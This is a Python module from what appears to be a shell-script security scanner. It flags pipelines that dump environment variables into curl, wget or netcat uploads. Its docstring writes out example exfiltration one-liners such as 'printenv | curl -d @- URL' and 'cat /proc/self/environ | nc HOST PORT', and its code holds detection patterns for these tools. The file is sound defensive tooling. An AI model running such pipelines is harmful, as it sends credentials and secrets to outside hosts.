"""The whole environment piped into an upload: `printenv | curl -d @- URL`, `env | base64 | curl
--data-binary @- URL`, `cat /proc/self/environ | nc HOST PORT`. A pipeline stage that dumps every
variable feeds, through any filters, a stage that sends its standard input to a network host — the
data of the dump is what leaves. A `grep` between them that keeps the lines matching a pattern
(`env | grep -iE 'key|token' | curl …`) is named as what leaves: a credential-looking pattern is reported
(secrets.read[env:*]), another pattern or the names alone (`cut -d= -f1`) is not. (A dump and an upload
that are not connected are only the environment-exfiltration combination, review.)"""

from __future__ import annotations

import re

from skillscan.analyzers.envselect import EnvSelection
from skillscan.analyzers.shell.decode import first_url, prog_name
from skillscan.analyzers.shell.envselect import grep_selection
from skillscan.analyzers.shell.messages import say
from skillscan.analyzers.shell.state import AnalyzerBase, Frame
from skillscan.analyzers.shell.words import Cmd
from skillscan.capabilities.urls import host_of
from skillscan.capabilities.urls import operand_host as host_operand
from skillscan.model import Capability

# rule ids whose logic is this module (tests/test_rule_modules.py)
RULE_IDS: tuple[str, ...] = ("shell-env-exfiltration",)

MAX_STAGES = 16
_STDIN_UPLOAD = re.compile(r"^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|--json|-T|--upload-file)$")
_STDIN_VALUE = re.compile(r"^(?:[\w.\[\]-]{1,64}=)?@-$|^-$|^/dev/stdin$")
NETCAT = {"nc", "ncat", "netcat", "socat", "telnet"}


def _dumps_environment(cmd: Cmd) -> str | None:
    """`printenv`/`env` without operands, `set` alone, `cat /proc/*/environ`."""
    values = [w.value for w in cmd.words]
    if not values or values[0] is None:
        return None
    name = prog_name(values[0])
    rest = values[1:]
    if name in ("printenv", "env") and all(v is not None and v.startswith("-") for v in rest):
        return name
    if name == "set" and not rest:
        return name
    if name in ("cat", "strings", "tr") and any(v and re.match(r"^/proc/(self|\d+|\$\$|\*)/environ$", v) for v in rest):
        return name
    return None


def _upload_host(cmd: Cmd) -> str | None:
    """The host a stage sends its standard input to, or None."""
    values = [w.value for w in cmd.words]
    if not values or values[0] is None:
        return None
    name = prog_name(values[0])
    args = values[1:]
    if name == "curl":
        for i, v in enumerate(args):
            if v is None:
                continue
            nxt = args[i + 1] if i + 1 < len(args) else None
            if _STDIN_UPLOAD.match(v) and nxt is not None and _STDIN_VALUE.match(nxt) or \
                    v in ("-F", "--form") and nxt is not None and _STDIN_VALUE.match(nxt.split("=", 1)[-1]):
                url = first_url(args)
                return host_of(url) if url else "*"
    if name == "wget" and any(v and re.match(r"^--post-file=?(/dev/stdin|-)?$", v) for v in args):
        url = first_url(args)
        return host_of(url) if url else "*"
    if name in NETCAT:
        hosts = [host_operand(v) for v in args if v and not v.startswith("-") and not v.isdigit()]
        return next((h for h in hosts if h != "*"), "*")
    return None


class EnvFlowMixin(AnalyzerBase):
    def _env_upload(self, cmd: Cmd, frame: Frame) -> None:
        host = _upload_host(cmd)
        if host is None:
            return
        stage = cmd.upstream
        between: list[list[str | None]] = []
        for _ in range(MAX_STAGES):
            if stage is None:
                return
            dump = _dumps_environment(stage)
            if dump is not None:
                name = prog_name(cmd.words[0].value or "")
                kept = grep_selection(list(reversed(between)))
                if kept is None:
                    self.run.add(frame, cmd, "shell-env-exfiltration",
                                 ["env.read[*]", Capability("net.egress", host)],
                                 say("env-upload", dump=dump, name=name, host=host))
                elif isinstance(kept, EnvSelection) and kept.credential:
                    self.run.add(frame, cmd, "shell-env-exfiltration",
                                 ["env.read[*]", Capability("secrets.read", "env:*"), Capability("net.egress", host)],
                                 say("env-upload-selected", dump=dump, what=kept.phrase(), name=name, host=host))
                return  # the names alone, or variables chosen by names that are not credential-looking
            between.append(stage.argv)
            stage = stage.upstream
